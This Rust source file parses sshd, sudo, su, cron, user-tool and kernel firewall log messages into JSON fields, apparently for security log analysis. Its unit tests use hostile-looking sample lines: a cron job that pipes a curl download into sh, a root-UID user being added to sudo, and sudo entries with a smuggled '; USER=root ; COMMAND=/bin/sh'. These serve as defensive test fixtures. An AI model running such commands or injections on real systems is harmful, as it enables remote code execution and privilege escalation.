//! What the messages of well-known programs say, as fields: sshd, sudo, su, cron, the user tools and the kernel's firewall.
//!
//! The forms are those of OpenSSH's `auth.c` and `sshd.c` messages, sudo's and cron's log lines, shadow's tools, and netfilter's LOG target.

use crate::writer::JsonWriter;

/// Readings of one field that a line may have.
const MAX_READINGS: usize = 16;

/// Adds the fields of a message. A message that is none of the known ones adds nothing.
pub(crate) fn fields(program: &[u8], message: &[u8], out: &mut JsonWriter) {
    let Ok(text) = std::str::from_utf8(message) else { return };
    match program {
        b"sshd" | b"sshd-session" | b"sshd-auth" => sshd(text, out),
        b"sudo" => sudo(text, out),
        b"su" => su(text, out),
        b"CRON" | b"cron" | b"crond" | b"crontab" => cron(text, out),
        b"useradd" | b"usermod" | b"userdel" | b"groupadd" | b"groupmod" | b"groupdel" | b"passwd"
        | b"chpasswd" | b"gpasswd" => users(text, out),
        b"kernel" => kernel(text, out),
        _ => {}
    }
}

fn add(out: &mut JsonWriter, fields: &[(&str, &str)]) {
    for (name, value) in fields {
        if !value.is_empty() {
            out.text(name, value.as_bytes());
        }
    }
}

/// The word behind a text, up to a space.
fn after<'a>(text: &'a str, before: &str) -> Option<&'a str> {
    let (_, rest) = text.split_once(before)?;
    rest.split(' ')
        .next()
        .map(|word| word.trim_end_matches([',', ';', ':', '.', ']', ')']))
        .filter(|word| !word.is_empty())
}

fn sshd(text: &str, out: &mut JsonWriter) {
    let text = text.strip_prefix("fatal: ").or_else(|| text.strip_prefix("error: ")).unwrap_or(text);
    let event = if text.starts_with("Accepted ") {
        "accepted"
    } else if text.starts_with("Failed ") {
        "failed"
    } else if text.starts_with("Invalid user ") || text.starts_with("Illegal user ") {
        "invalid_user"
    } else if text.starts_with("Disconnected from ") || text.starts_with("Received disconnect from ") {
        "disconnected"
    } else if text.starts_with("Connection closed by ") || text.starts_with("Connection reset by ") {
        "connection_closed"
    } else if text.starts_with("Connection from ") {
        "connection"
    } else if text.contains("session opened for user ") {
        "session_opened"
    } else if text.contains("session closed for user ") {
        "session_closed"
    } else if text.starts_with("Timeout before authentication")
        || text.contains("Timeout before authentication for connection")
    {
        "timeout"
    } else if text.contains("maximum authentication attempts exceeded") {
        "too_many_attempts"
    } else if text.contains("authentication failure;") {
        "auth_failure"
    } else if text.starts_with("User ") && text.contains(" not allowed because ") {
        "not_allowed"
    } else if text.starts_with("Bad protocol version ") || text.contains("kex_exchange_identification") {
        "protocol_error"
    } else {
        return;
    };
    // Names come from whoever tries to log in and may hold anything: what sshd says itself comes last.
    let (head, tail) = text.rsplit_once(" from ").unwrap_or((text, ""));
    let named = |head: &str| {
        let (_, rest) = head.split_once(" for ")?;
        Some(rest.strip_prefix("invalid user ").unwrap_or(rest).to_owned())
    };
    let user = match event {
        "accepted" | "failed" | "too_many_attempts" => named(head),
        "invalid_user" => head.splitn(3, ' ').nth(2).map(str::to_owned),
        "session_opened" | "session_closed" => {
            after(text, "for user ").map(|user| user.split('(').next().unwrap_or(user).to_owned())
        }
        "auth_failure" => after(text, " user=").map(str::to_owned),
        "not_allowed" => text.split(' ').nth(1).map(str::to_owned),
        _ => after(text, "authenticating user ")
            .or_else(|| after(text, "invalid user "))
            .or_else(|| after(text, " user "))
            .map(str::to_owned),
    };
    let address = after(text, "rhost=")
        .or_else(|| tail.split(' ').next())
        .filter(|word| word.parse::<std::net::IpAddr>().is_ok() || word.contains('.'))
        .or_else(|| address_in(text));
    let port = tail.rsplit_once(" port ").or_else(|| text.rsplit_once(" port ")).map(|(_, rest)| rest);
    let port = port.and_then(|rest| rest.split([' ', ':', ',']).next());
    let method = if matches!(event, "accepted" | "failed") { text.split(' ').nth(1) } else { None };
    add(
        out,
        &[
            ("event", event),
            ("user", user.as_deref().unwrap_or_default()),
            ("src_ip", address.unwrap_or_default()),
            ("src_port", port.unwrap_or_default()),
            ("method", method.unwrap_or_default()),
        ],
    );
}

/// The first word that is an address.
fn address_in(text: &str) -> Option<&str> {
    let words = text.split([' ', '[', ']', '(', ')', ',']);
    words.map(|word| word.trim_end_matches([':', '.'])).find(|word| word.parse::<std::net::IpAddr>().is_ok())
}

fn sudo(text: &str, out: &mut JsonWriter) {
    // Only what PAM says itself: a command may hold these words too.
    if let Some((_, rest)) =
        text.strip_prefix("pam_").and_then(|text| text.split_once("authentication failure;"))
    {
        let user = after(rest, " user=").or_else(|| after(rest, "ruser="));
        add(
            out,
            &[
                ("event", "auth_failure"),
                ("user", user.unwrap_or_default()),
                ("tty", after(rest, "tty=").unwrap_or_default()),
            ],
        );
        return;
    }
    let Some((user, rest)) = text.trim_start().split_once(" : ") else {
        let event = if text.contains("session opened") {
            "session_opened"
        } else if text.contains("session closed") {
            "session_closed"
        } else {
            return;
        };
        let user = after(text, "for user ").map(|user| user.split('(').next().unwrap_or(user));
        add(out, &[("event", event), ("runas_user", user.unwrap_or_default())]);
        return;
    };
    // The command comes last and may hold anything.
    let (head, command) = match rest.split_once("COMMAND=") {
        Some((head, command)) => (head, command),
        None => (rest, ""),
    };
    let part = |name: &str| {
        head.split(';')
            .map(str::trim)
            .find_map(|part| part.strip_prefix(name)?.strip_prefix('='))
            .unwrap_or_default()
    };
    let event = if head.contains("user NOT in sudoers") {
        "not_in_sudoers"
    } else if head.contains("incorrect password attempt") {
        "auth_failure"
    } else if head.contains("command not allowed") || head.contains("a password is required") {
        "not_allowed"
    } else {
        "command"
    };
    add(out, &[("event", event), ("user", user.trim()), ("tty", part("TTY")), ("pwd", part("PWD"))]);
    // Folders and commands may hold `; USER=` themselves: all readings are given, for the text does not tell which is meant.
    let readings = rest.match_indices("; USER=").map(|(at, sign)| {
        let behind = rest.get(at + sign.len()..).unwrap_or_default();
        behind.split(" ;").next().unwrap_or(behind).trim().as_bytes()
    });
    let readings: Vec<&[u8]> = readings.take(MAX_READINGS).collect();
    match readings.as_slice() {
        [] => {}
        [only] => out.text("runas_user", only),
        several => out.list("runas_user", several),
    }
    add(out, &[("command", command)]);
}

fn su(text: &str, out: &mut JsonWriter) {
    let event = if text.contains("session opened") {
        "session_opened"
    } else if text.contains("session closed") {
        "session_closed"
    } else if text.starts_with("FAILED") || text.contains("authentication failure") {
        "auth_failure"
    } else if text.starts_with("(to ") {
        "command"
    } else {
        return;
    };
    let to = after(text, "(to ")
        .or_else(|| after(text, "for user "))
        .map(|user| user.split('(').next().unwrap_or(user));
    let by =
        text.split_once(") ").filter(|_| text.contains("(to ")).and_then(|(_, rest)| rest.split(' ').next());
    let by = by.or_else(|| after(text, " by ")).map(|user| user.split('(').next().unwrap_or(user));
    add(out, &[("event", event), ("runas_user", to.unwrap_or_default()), ("user", by.unwrap_or_default())]);
}

fn cron(text: &str, out: &mut JsonWriter) {
    let Some((user, rest)) = text.strip_prefix('(').and_then(|text| text.split_once(") ")) else { return };
    if let Some(command) = rest.strip_prefix("CMD (").and_then(|command| command.strip_suffix(')')) {
        add(out, &[("event", "command"), ("user", user), ("command", command)]);
        return;
    }
    let event = match rest.split(' ').next() {
        Some("REPLACE") => "crontab_replaced",
        Some("BEGIN") => "crontab_edit_begun",
        Some("END") => "crontab_edit_ended",
        Some("LIST") => "crontab_listed",
        Some("DELETE") => "crontab_deleted",
        Some("RELOAD") => "crontab_reloaded",
        _ => return,
    };
    let other = rest.split_once('(').map(|(_, other)| other.trim_end_matches(')'));
    add(out, &[("event", event), ("user", user), ("command", other.unwrap_or_default())]);
}

fn users(text: &str, out: &mut JsonWriter) {
    let quoted = |before: &str| {
        let (_, rest) = text.split_once(before)?;
        rest.split('\'').next()
    };
    let events: [(&str, &str); 9] = [
        ("new user", "user_added"),
        ("new group", "group_added"),
        ("delete user", "user_deleted"),
        ("to shadow group '", "group_member_added"),
        ("to group '", "group_member_added"),
        ("from group '", "group_member_removed"),
        ("password changed for ", "password_changed"),
        ("change user '", "user_changed"),
        ("group removed", "group_deleted"),
    ];
    let Some((_, event)) = events.into_iter().find(|(sign, _)| text.contains(sign)) else { return };
    let user = quoted("add '")
        .or_else(|| quoted("delete '"))
        .or_else(|| quoted("change user '"))
        .or_else(|| quoted("delete user '"))
        .or_else(|| after(text, "password changed for "))
        .or_else(|| if event == "user_added" { after(text, "name=") } else { None });
    let group = quoted("to group '")
        .or_else(|| quoted("to shadow group '"))
        .or_else(|| quoted("from group '"))
        .or_else(|| if event == "group_added" { after(text, "name=") } else { None });
    add(out, &[("event", event), ("user", user.unwrap_or_default()), ("group", group.unwrap_or_default())]);
}

fn kernel(text: &str, out: &mut JsonWriter) {
    if text.contains(" segfault at ") {
        add(out, &[("event", "segfault")]);
        return;
    }
    if text.contains("Out of memory: Kill") || text.contains("oom-kill:") {
        add(out, &[("event", "oom")]);
        return;
    }
    if !(text.contains("SRC=") && text.contains("DST=")) {
        return;
    }
    out.text("event", b"packet");
    let mut seen: Vec<&str> = Vec::new();
    for pair in text.split(' ') {
        let Some((name, value)) = pair.split_once('=') else { continue };
        if !value.is_empty() && name.bytes().all(|byte| byte.is_ascii_uppercase()) && !seen.contains(&name) {
            // A packet in a packet tells its length again.
            seen.push(name);
            out.text(name, value.as_bytes());
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn event(program: &str, message: &str) -> serde_json::Value {
        let mut out = JsonWriter::default();
        out.begin();
        fields(program.as_bytes(), message.as_bytes(), &mut out);
        serde_json::from_slice(out.end()).unwrap()
    }

    fn holds(program: &str, message: &str, expected: &[(&str, &str)]) {
        let seen = event(program, message);
        for (name, value) in expected {
            assert_eq!(seen[name], *value, "{message}: {seen}");
        }
    }

    #[test]
    fn logins_tell_who_and_from_where() {
        holds(
            "sshd",
            "Failed password for invalid user admin from 192.0.2.9 port 51234 ssh2",
            &[
                ("event", "failed"),
                ("user", "admin"),
                ("src_ip", "192.0.2.9"),
                ("src_port", "51234"),
                ("method", "password"),
            ],
        );
        holds(
            "sshd-session",
            "Accepted publickey for ann from 2001:db8::9 port 1 ssh2: ED25519 SHA256:x",
            &[("event", "accepted"), ("user", "ann"), ("src_ip", "2001:db8::9"), ("method", "publickey")],
        );
        holds(
            "sshd",
            "Invalid user  from 192.0.2.9 port 1",
            &[("event", "invalid_user"), ("src_ip", "192.0.2.9")],
        );
        holds(
            "sshd",
            "pam_unix(sshd:session): session opened for user ann(uid=1000) by (uid=0)",
            &[("event", "session_opened"), ("user", "ann")],
        );
        holds(
            "sshd",
            "Connection closed by authenticating user root 192.0.2.9 port 22 [preauth]",
            &[("event", "connection_closed"), ("user", "root"), ("src_ip", "192.0.2.9")],
        );
        assert_eq!(event("sshd", "Server listening on 0.0.0.0 port 22."), serde_json::json!({}));
    }

    #[test]
    fn what_a_stranger_writes_is_not_taken_for_what_the_program_says() {
        holds(
            "sshd",
            "Failed password for invalid user x from 198.51.100.1 port 9 from 192.0.2.9 port 51234 ssh2",
            &[("src_ip", "192.0.2.9"), ("src_port", "51234"), ("user", "x from 198.51.100.1 port 9")],
        );
        holds(
            "sudo",
            "ann : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/echo authentication failure;",
            &[("event", "command"), ("user", "ann"), ("command", "/bin/echo authentication failure;")],
        );
        let seen = event(
            "sudo",
            "ann : TTY=pts/0 ; PWD=/tmp/a ; USER=nobody ; COMMAND=x ; USER=root ; COMMAND=/bin/sh",
        );
        assert_eq!(seen["runas_user"], serde_json::json!(["nobody", "root"]));
        assert_eq!(seen["command"], "x ; USER=root ; COMMAND=/bin/sh");
        let text = "[1.0] IN=e SRC=192.0.2.1 DST=192.0.2.2 LEN=40 PROTO=UDP LEN=20";
        holds("kernel", text, &[("LEN", "40")]);
    }

    #[test]
    fn commands_and_changes_of_users_are_told() {
        holds(
            "sudo",
            "ann : TTY=pts/0 ; PWD=/home/ann ; USER=root ; COMMAND=/bin/sh -c 'a ; b'",
            &[
                ("event", "command"),
                ("user", "ann"),
                ("runas_user", "root"),
                ("command", "/bin/sh -c 'a ; b'"),
                ("pwd", "/home/ann"),
            ],
        );
        holds(
            "sudo",
            "bob : user NOT in sudoers ; TTY=pts/1 ; PWD=/ ; USER=root ; COMMAND=/bin/ls",
            &[("event", "not_in_sudoers")],
        );
        holds(
            "CRON",
            "(root) CMD (curl -s http://192.0.2.1/x | sh)",
            &[("user", "root"), ("command", "curl -s http://192.0.2.1/x | sh")],
        );
        holds(
            "useradd",
            "new user: name=eve, UID=0, GID=0, home=/home/eve, shell=/bin/bash",
            &[("event", "user_added"), ("user", "eve")],
        );
        holds(
            "usermod",
            "add 'eve' to group 'sudo'",
            &[("event", "group_member_added"), ("user", "eve"), ("group", "sudo")],
        );
        holds(
            "kernel",
            "[1.0] IN=eth0 OUT= SRC=192.0.2.1 DST=192.0.2.2 PROTO=TCP DPT=22",
            &[("SRC", "192.0.2.1"), ("DPT", "22")],
        );
    }
}
